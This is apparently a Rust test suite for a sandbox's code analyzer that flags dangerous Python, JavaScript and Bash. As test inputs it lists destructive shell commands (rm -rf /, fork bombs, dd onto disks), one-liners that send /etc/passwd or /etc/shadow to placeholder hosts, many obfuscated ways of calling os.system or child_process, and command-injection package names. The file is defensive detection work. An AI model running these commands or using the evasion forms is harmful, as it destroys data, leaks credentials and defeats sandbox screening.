use super::*;
use crate::types::Language::{Bash, Javascript, Python};
use std::sync::OnceLock;

fn analyzer() -> &'static Analyzer {
    static A: OnceLock<Analyzer> = OnceLock::new();
    A.get_or_init(|| Analyzer::builtin().expect("the builtin profile loads"))
}

fn rules_of(language: Language, code: &str) -> Vec<String> {
    analyzer()
        .analyze(language, code)
        .into_iter()
        .map(|f| f.rule)
        .collect()
}

#[track_caller]
fn hits(language: Language, code: &str, rule: &str) {
    let found = rules_of(language, code);
    assert!(
        found.iter().any(|r| r == rule),
        "{rule} should match {code:?}; found {found:?}"
    );
}

#[track_caller]
fn misses(language: Language, code: &str, rule: &str) {
    let found = rules_of(language, code);
    assert!(
        !found.iter().any(|r| r == rule),
        "{rule} should not match {code:?}; found {found:?}"
    );
}

// ---- the profile -------------------------------------------------------------------------

#[test]
fn every_rule_example_holds() {
    let failures = analyzer().check_examples();
    assert!(
        failures.is_empty(),
        "{} example(s) fail:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn the_builtin_profile_has_the_rules_the_issue_lists() {
    let ids = |l| {
        analyzer()
            .rules(l)
            .iter()
            .map(|r| r.id.clone())
            .collect::<Vec<_>>()
    };
    for id in [
        "python.os-system",
        "python.subprocess",
        "python.exec-input",
        "python.dynamic-import",
        "python.rmtree-root",
        "python.http-request",
        "python.file-write",
    ] {
        assert!(ids(Python).contains(&id.to_string()), "{id}");
    }
    for id in [
        "javascript.process-exit",
        "javascript.child-process",
        "javascript.fs",
        "javascript.net",
        "javascript.http-request",
    ] {
        assert!(ids(Javascript).contains(&id.to_string()), "{id}");
    }
    for id in [
        "bash.rm-root",
        "bash.mkfs",
        "bash.dd-device",
        "bash.fork-bomb",
        "bash.exfiltrate-system-file",
        "bash.http-request",
        "bash.netcat",
    ] {
        assert!(ids(Bash).contains(&id.to_string()), "{id}");
    }
    let action = |l, id: &str| {
        analyzer()
            .rules(l)
            .iter()
            .find(|r| r.id == id)
            .map(|r| r.action)
    };
    assert_eq!(action(Python, "python.http-request"), Some(Action::Warn));
    assert_eq!(action(Python, "python.file-write"), Some(Action::Warn));
    assert_eq!(
        action(Javascript, "javascript.http-request"),
        Some(Action::Warn)
    );
    assert_eq!(action(Bash, "bash.netcat"), Some(Action::Warn));
    assert_eq!(action(Bash, "bash.fork-bomb"), Some(Action::Block));
}

#[test]
fn every_rule_has_string_and_comment_counter_examples_somewhere() {
    // The self-check covers them per rule; here: the literal/comment forms of the headline
    // patterns, each language.
    misses(Python, "print(\"os.system('ls')\")", "python.os-system");
    misses(Python, "# os.system('x')", "python.os-system");
    misses(
        Python,
        "x = \"\"\"\nimport subprocess\nsubprocess.run(['ls'])\n\"\"\"",
        "python.subprocess",
    );
    misses(Javascript, "// require('fs')", "javascript.fs");
    misses(
        Javascript,
        "const s = \"require('child_process')\";",
        "javascript.child-process",
    );
    misses(Bash, "echo \"rm -rf /\"", "bash.rm-root");
    misses(Bash, "# rm -rf /", "bash.rm-root");
    misses(Bash, "echo 'mkfs.ext4 /dev/sda'", "bash.mkfs");
}

// ---- Python aliasing -----------------------------------------------------------------------

#[test]
fn python_aliasing_cases() {
    let os_system = [
        "import os as o; o.system('ls')",
        "import os.path\nos.system('ls')",
        "from os import system as s\ns('ls')",
        "from os import *\nsystem('ls')",
        "import os\nx = os\nx.system('ls')",
        "import os\ns = os.system\ns('ls')",
        "import os\nf = getattr(os, 'system')\nf('ls')",
        "import os\ngetattr(os, 'system')('ls')",
        "getattr(__import__('os'), 'system')('ls')",
        "__import__('os').system('ls')",
        "import importlib\nimportlib.import_module('os').system('ls')",
        "import os\nos.__dict__['system']('ls')",
        "import sys\nsys.modules['os'].system('ls')",
        "import os\na, b = os, 1\na.system('ls')",
        "import os\nif (m := os):\n    m.system('ls')",
        "import os\na = b = os\nb.system('ls')",
        "import os\nos.system.__call__('ls')",
        "import functools, os\nfunctools.partial(os.system, 'ls')()",
        "import os\nlist(map(os.system, ['ls']))",
        "import ｏｓ\nｏｓ.system('ls')",
        "m = 'o' 's'\n__import__(m).system('ls')",
        "def f():\n    import os as o\n    o.system('ls')",
    ];
    for code in os_system {
        hits(Python, code, "python.os-system");
    }
    hits(
        Python,
        "from subprocess import run\nrun(['ls'])",
        "python.subprocess",
    );
    hits(
        Python,
        "from subprocess import run as r\nr(['ls'])",
        "python.subprocess",
    );
    hits(
        Python,
        "import subprocess as s\ns.Popen(['ls'])",
        "python.subprocess",
    );
    hits(Python, "exec(input())", "python.exec-input");
    hits(
        Python,
        "import builtins\nbuiltins.exec(input())",
        "python.exec-input",
    );
    hits(Python, "__builtins__.exec(input())", "python.exec-input");
    hits(Python, "__import__('os')", "python.dynamic-import");
    hits(
        Python,
        "import shutil\nshutil.rmtree('/')",
        "python.rmtree-root",
    );
    hits(
        Python,
        "exec(\"import os\\nos.system('ls')\")",
        "python.os-system",
    );
    hits(
        Python,
        "code = \"__import__('os').system('ls')\"\nexec(code)",
        "python.os-system",
    );
    // Rebinding a name does not hide what it means unbound.
    hits(
        Python,
        "import json as os\nos.system('ls')",
        "python.os-system",
    );
    hits(Python, "exec = print\nexec(input())", "python.exec-input");
}

#[test]
fn python_non_matches() {
    misses(Python, "import os\nos.getcwd()", "python.os-system");
    misses(Python, "system('ls')", "python.os-system");
    misses(
        Python,
        "import os\nos.path.join('a', 'b')",
        "python.os-system",
    );
    misses(Python, "obj.system('ls')", "python.os-system");
    misses(Python, "import subprocess", "python.subprocess");
    misses(
        Python,
        "import shutil\nshutil.rmtree('/tmp/x')",
        "python.rmtree-root",
    );
    misses(Python, "open('f')", "python.file-write");
    misses(Python, "x = 'exec(input())'", "python.exec-input");
    misses(
        Python,
        "import os\ngetattr(os, name)('ls')",
        "python.os-system",
    );
}

// ---- JavaScript aliasing -------------------------------------------------------------------

#[test]
fn javascript_aliasing_cases() {
    for code in [
        "require('child_process')",
        "require(\"child_process\")",
        "require(`child_process`)",
        "require('node:child_process')",
        "const m = 'child_process'; require(m)",
        "const r = require; r('child_process')",
        "let r; r = require; r('child_process')",
        "module.require('child_process')",
        "process.mainModule.require('child_process')",
        "require.main.require('child_process')",
        "module.constructor._load('child_process')",
        "require.bind(null)('child_process')",
        "import x from 'child_process'",
        "import * as cp from 'node:child_process'",
        "export { exec } from 'child_process'",
        "import('child_process').then(m => m.exec('ls'))",
        "\\u0072equire('child_process')",
        "require('child\\u005fprocess')",
        "child_process.execSync('ls')",
        "globalThis.child_process.execSync('ls')",
        "__sandpit_driver__.import('child_process')",
        "new Function(\"return require('child_process')\")()",
        "eval(\"require('child_process')\")",
    ] {
        hits(Javascript, code, "javascript.child-process");
    }
    hits(Javascript, "require('fs')", "javascript.fs");
    hits(Javascript, "require('fs/promises')", "javascript.fs");
    hits(Javascript, "require('net')", "javascript.net");
    for code in [
        "process.exit()",
        "process['exit']()",
        "const p = process; p.exit()",
        "const { exit } = process; exit()",
        "process.reallyExit(1)",
        "globalThis['process'].exit(1)",
    ] {
        hits(Javascript, code, "javascript.process-exit");
    }
    hits(
        Javascript,
        "process.binding('spawn_sync')",
        "javascript.process-binding",
    );
    hits(
        Javascript,
        "fetch('https://example.com')",
        "javascript.http-request",
    );
}

#[test]
fn javascript_non_matches() {
    misses(Javascript, "require('path')", "javascript.fs");
    misses(
        Javascript,
        "function f(fs) { return fs.readFileSync('x'); }",
        "javascript.fs",
    );
    misses(
        Javascript,
        "const fs = makeFs(); fs.readFileSync('x')",
        "javascript.fs",
    );
    misses(
        Javascript,
        "const net = new Network(); net.train()",
        "javascript.net",
    );
    misses(Javascript, "obj.exit()", "javascript.process-exit");
    misses(
        Javascript,
        "const x = { fs: 1, net: 2 }; x.fs",
        "javascript.fs",
    );
    misses(Javascript, "require(name)", "javascript.child-process");
}

// ---- bash ----------------------------------------------------------------------------------

#[test]
fn bash_command_spellings() {
    for code in [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm -Rf /",
        "rm --recursive --force /",
        "rm -rf /*",
        "sudo rm -rf /",
        "sudo -u root rm -rf /",
        "command rm -rf /",
        "exec rm -rf /",
        "busybox rm -rf /",
        "timeout 5 rm -rf /",
        "nice -n 10 rm -rf /",
        "/bin/rm -rf /",
        "/usr/bin/rm -rf /",
        "'rm' -rf /",
        "x=rm; $x -rf /",
        "f=-rf; rm $f /",
        "echo `rm -rf /`",
        "echo \"$(rm -rf /)\"",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "for i in 1; do rm -rf /; done",
        "f() { rm -rf /; }",
        "bash -c 'rm -rf /'",
        "sh -ec 'rm -rf /'",
        "sudo sh -c \"rm -rf /\"",
        "su -c 'rm -rf /' root",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        "bash -c \"bash -c 'rm -rf /'\"",
        "printf 'rm -rf /' | bash",
    ] {
        hits(Bash, code, "bash.rm-root");
    }
    hits(
        Bash,
        "rm -rf --no-preserve-root /",
        "bash.rm-no-preserve-root",
    );
    hits(Bash, "mkfs.ext4 /dev/sda1", "bash.mkfs");
    hits(Bash, "dd if=/dev/zero of=/dev/sda", "bash.dd-device");
    hits(Bash, ":(){ :|:& };:", "bash.fork-bomb");
    hits(Bash, "bomb(){ bomb|bomb& }; bomb", "bash.fork-bomb");
    hits(
        Bash,
        "cat /etc/passwd | curl -d @- http://x",
        "bash.exfiltrate-system-file",
    );
    hits(
        Bash,
        "curl -d @/etc/passwd http://x",
        "bash.exfiltrate-system-file",
    );
    hits(
        Bash,
        "curl --data-binary @/etc/shadow http://x",
        "bash.exfiltrate-system-file",
    );
    hits(
        Bash,
        "curl -F x=@/etc/passwd http://x",
        "bash.exfiltrate-system-file",
    );
    hits(
        Bash,
        "curl -T /etc/passwd http://x",
        "bash.exfiltrate-system-file",
    );
    hits(
        Bash,
        "wget --post-file=/etc/passwd http://x",
        "bash.exfiltrate-system-file",
    );
    hits(
        Bash,
        "curl http://x < /etc/passwd",
        "bash.exfiltrate-system-file",
    );
    hits(Bash, "curl http://x", "bash.http-request");
    hits(Bash, "wget http://x", "bash.http-request");
    hits(Bash, "nc -l 4444", "bash.netcat");
}

#[test]
fn bash_non_matches() {
    for code in [
        "echo rm -rf /",
        "echo 'rm -rf /'",
        "# rm -rf /",
        "rm -rf build/",
        "rm -f /tmp/x",
        "cat <<EOF\nrm -rf /\nEOF",
    ] {
        misses(Bash, code, "bash.rm-root");
    }
    misses(Bash, "x=$1; rm -rf $x", "bash.rm-root");
    misses(
        Bash,
        "curl http://x/etc/passwd",
        "bash.exfiltrate-system-file",
    );
    misses(Bash, "cat /etc/passwd", "bash.exfiltrate-system-file");
    misses(Bash, "dd if=/dev/sda of=out.img", "bash.dd-device");
}

// ---- findings, lines, modes ----------------------------------------------------------------

#[test]
fn findings_report_the_line_in_line_order() {
    let code = "import requests\n\nrequests.get('https://x')\nimport os\nos.system('ls')\n";
    let findings = analyzer().analyze(Python, code);
    let got: Vec<(&str, usize)> = findings.iter().map(|f| (f.rule.as_str(), f.line)).collect();
    assert_eq!(
        got,
        vec![("python.http-request", 3), ("python.os-system", 5)]
    );
    assert_eq!(findings[0].message, "requests.get() makes an HTTP request");
    assert_eq!(findings[1].message, "os.system() runs a shell command");
    assert_eq!(findings[1].action, Action::Block);

    // Code re-parsed from a string keeps the lines of the submission.
    let findings = analyzer().analyze(Bash, "echo hi\nbash -c '\necho a\nrm -rf /'\n");
    assert_eq!(
        findings
            .iter()
            .find(|f| f.rule == "bash.rm-root")
            .map(|f| f.line),
        Some(4)
    );
    let findings = analyzer().analyze(Python, "x = 1\nexec('''\nimport os\nos.system(\"ls\")''')");
    assert_eq!(
        findings
            .iter()
            .find(|f| f.rule == "python.os-system")
            .map(|f| f.line),
        Some(4)
    );
    let findings = analyzer().analyze(Bash, "true\nbash <<EOF\necho\nrm -rf /\nEOF\n");
    assert_eq!(
        findings
            .iter()
            .find(|f| f.rule == "bash.rm-root")
            .map(|f| f.line),
        Some(4)
    );
    let findings = analyzer().analyze(Javascript, "let a;\n\nprocess.exit(1);");
    assert_eq!(findings.first().map(|f| f.line), Some(3));
}

#[test]
fn one_finding_per_rule_and_line() {
    let findings = analyzer().analyze(Python, "import os; os.system('a'); os.system('b')");
    assert_eq!(
        findings
            .iter()
            .filter(|f| f.rule == "python.os-system")
            .count(),
        1
    );
    let findings = analyzer().analyze(Python, "import os\nos.system('a')\nos.system('b')");
    assert_eq!(
        findings
            .iter()
            .filter(|f| f.rule == "python.os-system")
            .count(),
        2
    );
}

#[test]
fn screen_block_mode() {
    let code = "import requests\nrequests.get('https://x')\nimport os\nos.system('ls')\nimport subprocess\nsubprocess.run(['ls'])";
    let s = analyzer().screen(Python, code, Mode::Block);
    let blocked = s.blocked.clone().expect("blocked");
    assert_eq!(blocked.rule, "python.os-system");
    assert_eq!(blocked.line, 4);
    assert_eq!(
        blocked.block_message(),
        "blocked by analyzer rule python.os-system at line 4: os.system() runs a shell command"
    );
    assert_eq!(
        s.warnings,
        vec![
            "analyzer: line 2: requests.get() makes an HTTP request (rule python.http-request)"
                .to_string()
        ]
    );
    assert_eq!(s.findings.len(), 3);
}

#[test]
fn screen_warn_mode() {
    let code = "import requests\nrequests.get('https://x')\nimport os\nos.system('ls')";
    let s = analyzer().screen(Python, code, Mode::Warn);
    assert_eq!(s.blocked, None);
    assert_eq!(s.warnings.len(), 2);
    assert_eq!(
        s.warnings[0],
        "analyzer: line 2: requests.get() makes an HTTP request (rule python.http-request)"
    );
    assert!(s.warnings[1].starts_with(
        "analyzer (would block): line 4: os.system() runs a shell command (rule python.os-system"
    ));
    assert_eq!(s.findings.len(), 2);
}

#[test]
fn screen_off_mode_and_clean_code() {
    let s = analyzer().screen(Bash, "rm -rf /", Mode::Off);
    assert_eq!(s, Screening::default());
    let s = analyzer().screen(Bash, "echo hello", Mode::Block);
    assert_eq!(s, Screening::default());
}

#[test]
fn mode_parses() {
    assert_eq!("block".parse::<Mode>(), Ok(Mode::Block));
    assert_eq!("WARN".parse::<Mode>(), Ok(Mode::Warn));
    assert_eq!(" off ".parse::<Mode>(), Ok(Mode::Off));
    let err = "strict".parse::<Mode>().unwrap_err();
    assert!(
        err.contains("\"strict\"") && err.contains("block, warn or off"),
        "{err}"
    );
    assert_eq!(serde_json::to_string(&Mode::Warn).unwrap(), "\"warn\"");
    assert_eq!(
        serde_json::from_str::<Mode>("\"block\"").unwrap(),
        Mode::Block
    );
    assert_eq!(serde_json::to_string(&Action::Block).unwrap(), "\"block\"");
    assert_eq!(Mode::Off.to_string(), "off");
}

#[test]
fn analyzer_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Analyzer>();
}

// ---- rules files -------------------------------------------------------------------------------

const PY_RULE: &str = r#"
[[rule]]
id = "python.x"
action = "block"
message = "{name}() is x"
calls = ["x.y"]
examples.match = ["import x\nx.y()"]
examples.no_match = ["x = 'x.y()'"]
"#;

fn load_py(text: &str) -> Result<Analyzer, AnalyzerError> {
    Analyzer::with_rules(text, "", "")
}

#[test]
fn custom_rules_load_and_apply() {
    let a = load_py(PY_RULE).unwrap();
    assert!(a.check_examples().is_empty());
    assert_eq!(
        a.analyze(Python, "from x import y\ny()")[0].message,
        "x.y() is x"
    );
    assert!(a.analyze(Javascript, "process.exit()").is_empty());
}

#[test]
fn invalid_rules_are_errors_naming_file_and_rule() {
    let cases = [
        (PY_RULE.replace("calls =", "cals ="), "unknown field"),
        (
            PY_RULE.replace("python.x", "javascript.x"),
            "rule javascript.x: the id must be",
        ),
        (
            PY_RULE.replace(
                "examples.no_match = [\"x = 'x.y()'\"]",
                "examples.no_match = []",
            ),
            "rule python.x: every rule needs",
        ),
        (
            format!("{PY_RULE}{PY_RULE}"),
            "rule python.x: duplicate rule id",
        ),
        (
            PY_RULE.replace("action = \"block\"", "action = \"deny\""),
            "unknown variant",
        ),
        (
            PY_RULE.replace("calls = [\"x.y\"]", ""),
            "exactly one of calls or methods",
        ),
        ("[[rule]\n".to_string(), "invalid toml"),
    ];
    for (text, expected) in cases {
        let err = load_py(&text).expect_err("an error").to_string();
        assert!(err.contains("(python rules)"), "{err}");
        assert!(err.contains(expected), "{err} should contain {expected}");
    }
    let bash = "[[rule]]\nid = \"bash.x\"\naction = \"warn\"\nmessage = \"m\"\ncommands = [\"a\"]\nfork_bomb = true\nexamples.match = [\"a\"]\nexamples.no_match = [\"b\"]\n";
    let err = Analyzer::with_rules("", "", bash)
        .expect_err("an error")
        .to_string();
    assert!(
        err.contains("rule bash.x: a bash rule needs exactly one of"),
        "{err}"
    );
}

// ---- robustness ----------------------------------------------------------------------------------

#[test]
fn deeply_nested_input_does_not_overflow() {
    let n = 10_000;
    let parens = format!("{}x{}", "(".repeat(n), ")".repeat(n));
    let calls = format!("{}os.system('ls'){}", "f(".repeat(n), ")".repeat(n));
    let attrs = format!("x{}", ".a".repeat(n));
    let concat = format!("__import__({}'os')", "'' + ".repeat(n));
    let chain: String = (1..n)
        .map(|i| format!("a{i} = a{}\n", i - 1))
        .collect::<String>()
        + &format!("a0 = os\na{}.system('x')", n - 1);
    for code in [
        &parens,
        &calls,
        &attrs,
        &concat,
        &chain,
        &"[".repeat(n),
        &"exec(".repeat(n),
    ] {
        let _ = analyzer().analyze(Python, code);
    }
    // Deep nesting still finds what is reachable.
    assert!(
        rules_of(Python, &format!("import os\n{calls}")).contains(&"python.os-system".to_string())
    );
    // An alias chain of any length, bound in source order, is followed.
    assert!(rules_of(Python, &chain).contains(&"python.os-system".to_string()));

    let js_parens = format!("{}process.exit(){}", "(".repeat(n), ")".repeat(n));
    let js_fns = format!(
        "{}require('fs'){}",
        "(function(){".repeat(n),
        "})".repeat(n)
    );
    let js_members = format!("a{}", ".b".repeat(n));
    for code in [
        &js_parens,
        &js_fns,
        &js_members,
        &"{".repeat(n),
        &"[".repeat(n),
    ] {
        let _ = analyzer().analyze(Javascript, code);
    }
    assert!(rules_of(Javascript, &js_fns).contains(&"javascript.fs".to_string()));

    let sh_subst = format!("{}rm -rf /{}", "echo $(".repeat(n), ")".repeat(n));
    let sh_subshells = format!("{}rm -rf /{}", "( ".repeat(n), " )".repeat(n));
    let sh_vars: String = (1..n)
        .map(|i| format!("v{i}=$v{}\n", i - 1))
        .collect::<String>()
        + "v0=/\nrm -rf $v9999";
    let sh_doubling: String = (1..64)
        .map(|i| format!("v{i}=$v{}$v{}\n", i - 1, i - 1))
        .collect::<String>()
        + "v0=ab\nrm -rf $v63";
    for code in [
        &sh_subst,
        &sh_subshells,
        &sh_vars,
        &sh_doubling,
        &"$(".repeat(n),
        &"{ ".repeat(n),
    ] {
        let _ = analyzer().analyze(Bash, code);
    }
    assert!(rules_of(Bash, &sh_subshells).contains(&"bash.rm-root".to_string()));
}

#[test]
fn nested_string_code_is_bounded() {
    // Each level re-parses a string; the nesting and the total bytes re-parsed are capped.
    let mut code = "rm -rf /".to_string();
    for _ in 0..9 {
        code = format!("bash -c {}", shell_quote(&code));
    }
    // Parsed to the nesting limit (3 levels of strings), not beyond.
    let findings = analyzer().analyze(Bash, &code);
    assert!(!findings.iter().any(|f| f.rule == "bash.rm-root"));
    let three = "bash -c \"bash -c 'bash -c \\\"rm -rf /\\\"'\"";
    assert!(
        rules_of(Bash, three).contains(&"bash.rm-root".to_string()),
        "{three}"
    );
    let many = "s='import os; os.system(1)'\n".to_string() + &"exec(s)\n".repeat(20_000);
    let findings = analyzer().analyze(Python, &many);
    assert!(findings.iter().any(|f| f.rule == "python.os-system"));
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn large_inputs_are_linear_enough() {
    let py: String = (0..500)
        .map(|i| match i % 5 {
            0 => format!("import os as o{i}\n"),
            1 => format!("x{i} = o{}.path.join('a', 'b')\n", i - 1),
            2 => format!("def f{i}(a, b):\n    return a + b  # os.system('x')\n"),
            3 => format!("print(\"subprocess.run({i})\")\n"),
            _ => format!("y{i} = [k for k in range({i}) if k % 2]\n"),
        })
        .collect();
    assert!(analyzer().analyze(Python, &py).is_empty());
    let js: String = (0..500)
        .map(|i| {
            format!("const v{i} = require('./m{i}'); v{i}.go(() => {{ return {i}; }}); // fs\n")
        })
        .collect();
    assert!(analyzer().analyze(Javascript, &js).is_empty());
    let sh: String = (0..500)
        .map(|i| format!("x{i}=$(echo {i} | tr 0 1) && echo \"rm -rf / $x{i}\" > /tmp/f{i}\n"))
        .collect();
    assert!(analyzer().analyze(Bash, &sh).is_empty());
}

#[test]
fn broken_code_is_still_analyzed() {
    hits(
        Python,
        "def f(:\n    pass\nimport os\nos.system('ls')",
        "python.os-system",
    );
    hits(
        Javascript,
        "let x = ;\nprocess.exit(1);",
        "javascript.process-exit",
    );
    hits(Bash, "if then fi\nrm -rf /", "bash.rm-root");
    for code in ["", "\n\n", "\u{0}", "'''", "\"", "`", "$(", "\u{feff}x"] {
        for language in Language::ALL {
            let _ = analyzer().analyze(language, code);
        }
    }
}

// ---- package names -----------------------------------------------------------------------------

#[test]
fn package_names() {
    for ok in [
        "requests",
        "numpy==1.26.4",
        "numpy>=1.0",
        "numpy<=2",
        "numpy=1.0",
        "numpy<2",
        "numpy>1",
        "pandas~=2.0",
        "python-dateutil",
        "typing_extensions",
        "zope.interface",
        "lodash@4.17.21",
        "@types/node",
        "@types/node@20.1.0",
        "left-pad",
        "A1",
    ] {
        assert_eq!(validate_package_name(ok), Ok(()), "{ok}");
    }
    let long = "a".repeat(200);
    for bad in [
        "",
        "-e",
        "--index-url=x",
        "-rrequirements.txt",
        "git+https://github.com/x/y",
        "https://example.com/x.whl",
        "../x",
        "./x",
        "a/b",
        "a b",
        "a;rm",
        "a&&b",
        "$(id)",
        "`id`",
        "a\nb",
        "x[extra]",
        "x==",
        "x===1",
        "x==1;rm",
        "x==1 ",
        "x!=1",
        "x@^1.0",
        ".hidden",
        "a..b",
        "@scope",
        "@/x",
        "@scope/",
        "@scope/x==1",
        long.as_str(),
    ] {
        let err = validate_package_name(bad).expect_err(bad);
        assert!(err.contains(&format!("{bad:?}")), "{err}");
        assert!(err.contains("expected NAME"), "{err}");
    }
    assert!(validate_package_name(&"a".repeat(100)).is_ok());
    assert!(validate_package_name(&"a".repeat(101)).is_err());
}

#[test]
fn adversarial_shapes_do_not_blow_up() {
    // Shapes that made earlier versions quadratic or exponential: nested getattr chains,
    // long alias chains defined after their use, nested pipelines and substitutions that
    // each trigger a search below them, many copies of one exfiltration.
    let n = 3_000;
    let cases: Vec<(Language, String)> = vec![
        (
            Python,
            format!("{}os{}", "getattr(".repeat(n), ", 'exec')".repeat(n)),
        ),
        (
            Python,
            (0..n)
                .map(|i| format!("a{i} = a{} if c else b{i}\nb{i} = a{i}.x\n", (i + 1) % n))
                .collect(),
        ),
        (
            Python,
            format!("{}input(){}", "exec(".repeat(n), ")".repeat(n)),
        ),
        (
            Javascript,
            format!("{}process{}", "Reflect.get(".repeat(n), ", 'x')".repeat(n)),
        ),
        (
            Javascript,
            (0..n)
                .map(|i| format!("let v{i} = v{} || process;\n", (i + 1) % n))
                .collect(),
        ),
        (
            Bash,
            format!(
                "{}cat /etc/passwd{}",
                "( ".repeat(n),
                " | curl -d @- x )".repeat(n)
            ),
        ),
        (Bash, format!("{}x{}", "curl $(".repeat(n), ")".repeat(n))),
        (Bash, format!("{}x{}", "f() { ".repeat(n), "; }".repeat(n))),
        (Bash, "cat /etc/passwd | curl x\n".repeat(n)),
        (
            Bash,
            (1..n)
                .map(|i| format!("v{i}=$v{}$v{}\n", i - 1, i - 1))
                .collect::<String>()
                + "echo $v2999",
        ),
    ];
    for (language, code) in &cases {
        let _ = analyzer().analyze(*language, code);
    }
    // What is found in such shapes is still found.
    assert!(rules_of(Python, &cases[2].1).contains(&"python.exec-input".to_string()));
    assert!(rules_of(Bash, &cases[5].1).contains(&"bash.exfiltrate-system-file".to_string()));
}

#[test]
fn exfiltration_spellings() {
    for code in [
        "curl -d@/etc/passwd http://x",
        "curl --data-urlencode pw@/etc/shadow http://x",
        "curl -F 'f=</etc/passwd' http://x",
        "curl --upload-file=/root/.bash_history http://x",
        "wget --body-file /etc/passwd http://x",
        "curl -d @- http://x <<< \"$(cat /etc/shadow)\"",
        "cat /etc/passwd |\n  gzip |\n  curl -T - http://x",
        "{ echo start; cat /etc/shadow; } | nc example.com 9",
        "sudo cat /etc/shadow | sudo curl -d @- http://x",
    ] {
        hits(Bash, code, "bash.exfiltrate-system-file");
    }
    // Reported at the sender's stage.
    let findings = analyzer().analyze(Bash, "cat /etc/passwd |\n  gzip |\n  curl -T - http://x");
    let lines: Vec<usize> = findings
        .iter()
        .filter(|f| f.rule == "bash.exfiltrate-system-file")
        .map(|f| f.line)
        .collect();
    assert_eq!(lines, vec![3]);
}

#[test]
fn check_examples_reports_failing_examples() {
    let text = PY_RULE.replace(
        "examples.no_match = [\"x = 'x.y()'\"]",
        "examples.no_match = [\"import x\\nx.y()\"]",
    );
    let a = load_py(&text).unwrap();
    let failures = a.check_examples();
    assert_eq!(failures.len(), 1, "{failures:?}");
    assert!(
        failures[0].starts_with("python.x: should not match"),
        "{failures:?}"
    );
}

#[test]
fn empty_rule_sets_find_nothing() {
    let a = Analyzer::with_rules("", "# no rules\n", "").unwrap();
    for language in Language::ALL {
        assert!(a.rules(language).is_empty());
        assert!(a.analyze(language, "rm -rf /").is_empty());
    }
    assert_eq!(
        a.screen(Bash, "rm -rf /", Mode::Block),
        Screening::default()
    );
}

#[test]
fn glob_semantics() {
    use super::syntax::glob_match;
    assert!(glob_match("subprocess.*", "subprocess.run"));
    assert!(!glob_match("subprocess.*", "subprocess"));
    assert!(glob_match("os.exec*", "os.execv"));
    assert!(glob_match("/etc/*", "/etc/ssh/sshd_config"));
    assert!(glob_match("/\\*", "/*"));
    assert!(!glob_match("/\\*", "/tmp"));
    assert!(glob_match("*", ""));
    assert!(glob_match("a*b*c", "aXbYbZc"));
    assert!(!glob_match("a*b*c", "aXbY"));
}

/// The built-in profiles load at their language's first use; one that did not load would
/// block every analysis of its language (closed), and `check_examples` names it. A run of one
/// language parses only that language's profile.
#[test]
fn builtin_rules_load_lazily_and_a_broken_profile_blocks() {
    let a = Analyzer::builtin().expect("the builtin profile");
    assert!(a.python.loaded.get().is_none(), "nothing parsed before use");
    assert!(!a.analyze(Python, "import os\nos.system('ls')").is_empty());
    assert!(a.python.loaded.get().is_some());
    assert!(a.javascript.loaded.get().is_none() && a.bash.loaded.get().is_none());

    let broken = Analyzer {
        python: LanguageRules::builtin("broken.toml", "[[rule]]\nid = "),
        ..a
    };
    let findings = broken.analyze(Python, "x = 1");
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].rule, "analyzer.rules-unavailable");
    assert_eq!(findings[0].action, Action::Block);
    assert!(
        findings[0].message.contains("broken.toml"),
        "{}",
        findings[0].message
    );
    assert!(broken
        .screen(Python, "x = 1", Mode::Block)
        .blocked
        .is_some());
    assert!(broken.rules(Python).is_empty());
    assert!(broken
        .check_examples()
        .iter()
        .any(|f| f.starts_with("python rules:")));
}

/// The built-in profiles are embedded as the JSON `src/build.rs` makes of the TOML files: both
/// give the same rules.
#[test]
fn builtin_json_profiles_are_the_toml_ones() {
    for (language, toml_text, json_text) in [
        (
            Python,
            include_str!("../../../profiles/analyzer/python.toml"),
            BUILTIN_PYTHON,
        ),
        (
            Javascript,
            include_str!("../../../profiles/analyzer/javascript.toml"),
            BUILTIN_JAVASCRIPT,
        ),
        (
            Bash,
            include_str!("../../../profiles/analyzer/bash.toml"),
            BUILTIN_BASH,
        ),
    ] {
        let from_toml = rules::load(language, "toml", toml_text).expect("the TOML profile");
        let from_json = rules::load_as(rules::Format::Json, language, "json", json_text)
            .expect("the JSON profile");
        assert!(!from_toml.is_empty());
        assert_eq!(
            format!("{from_toml:?}"),
            format!("{from_json:?}"),
            "{language}"
        );
    }
}
